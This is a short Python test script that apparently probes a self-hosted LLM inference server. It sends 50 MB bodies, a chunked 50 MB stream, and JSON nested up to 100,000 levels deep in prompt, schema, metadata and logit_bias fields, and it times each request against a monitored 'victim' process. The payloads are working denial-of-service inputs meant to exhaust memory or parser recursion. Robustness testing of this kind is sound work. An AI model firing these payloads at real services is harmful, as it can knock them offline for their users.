from harness import *
import json
probe("baseline", "/v1/completions", {"prompt":"Hi","max_tokens":4,"temperature":0})
big = b'{"prompt":"' + b"a" * (50 * 1024 * 1024) + b'","max_tokens":1}'
probe("body_50MB", "/v1/completions", raw=big)
# chunked 50MB (no content-length)
def gen():
    yield b'{"prompt":"'
    for _ in range(50): yield b"a" * (1024 * 1024)
    yield b'","max_tokens":1}'
with Victim() as v:
    time.sleep(1); t0 = time.monotonic()
    try:
        r = httpx.post(BASE + "/v1/completions", content=gen(), headers={"content-type": "application/json"}, timeout=60); res = f"{r.status_code} {r.text[:200]}"
    except Exception as e: res = repr(e)
    dt = time.monotonic() - t0; time.sleep(1)
print("== body_50MB_chunked", f"{dt:.2f}s", res, summary([s for s in v.samples if s[0]+s[1] >= t0 and s[0] <= t0+dt]))
probe("nest_100000_list", "/v1/completions", raw=b'{"prompt":"Hi","max_tokens":1,"x":' + b"[" * 100000 + b"]" * 100000 + b"}")
probe("nest_100000_in_schema", "/v1/completions", raw=b'{"prompt":"Hi","max_tokens":1,"guided_json":' + b'{"a":' * 100000 + b'1' + b"}" * 100000 + b"}")
d = '{"type":"string"}'
for _ in range(1000): d = '{"type":"object","properties":{"a":' + d + '},"required":["a"]}'
probe("schema_nest_1000", "/v1/chat/completions", raw=('{"messages":[{"role":"user","content":"Hi"}],"max_tokens":4,"response_format":{"type":"json_schema","json_schema":{"name":"x","schema":' + d + '}}}').encode())
probe("nest_900_messages_content", "/v1/chat/completions", raw=b'{"messages":[{"role":"user","content":"Hi"}],"max_tokens":1,"metadata":' + b'{"a":' * 900 + b'1' + b"}" * 900 + b"}")
probe("logit_bias_nested", "/v1/completions", raw=b'{"prompt":"Hi","max_tokens":1,"logit_bias":{"1":' + b"[" * 5000 + b"]" * 5000 + b"}}")
